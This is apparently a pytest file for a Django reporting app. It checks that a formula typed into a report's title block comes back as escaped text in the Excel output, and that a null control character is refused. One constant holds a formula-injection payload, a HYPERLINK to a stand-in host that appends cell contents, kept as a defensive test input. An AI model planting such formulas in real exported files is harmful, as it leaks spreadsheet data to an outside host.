"""What a user types in a report's title block: a formula comes back as text in the Excel
report, and a control character is refused before anything is queued."""

import io

import openpyxl
import pytest

from tiendo.reports.models import GeneratedReport

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://x?leak="&A1)'


def test_a_formula_in_the_issuing_body_comes_back_as_text(client, people, province, target):
    client.force_login(people["specialist"])
    answer = client.post("/en/reports/", {
        "unit": province["province"].pk, "period": "2024", "format": "xlsx",
        "issuing_body": LEAK})
    report = GeneratedReport.objects.get()
    status = client.post(f"/en/reports/{report.pk}/build/", HTTP_ACCEPT="application/json")
    assert answer.status_code == 302 and status.json()["status"] == "done"
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(status.json()["download"]).content)
                                   ).worksheets[0]
    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "'" + LEAK)


def test_a_control_character_in_the_title_block_is_refused(client, people, province, target):
    client.force_login(people["specialist"])
    page = client.post("/en/reports/", {
        "unit": province["province"].pk, "period": "2024", "format": "xlsx",
        "subject": "Báo cáo\x00 tháng"})
    assert "control character (code 0)" in page.content.decode()
    assert not GeneratedReport.objects.exists()
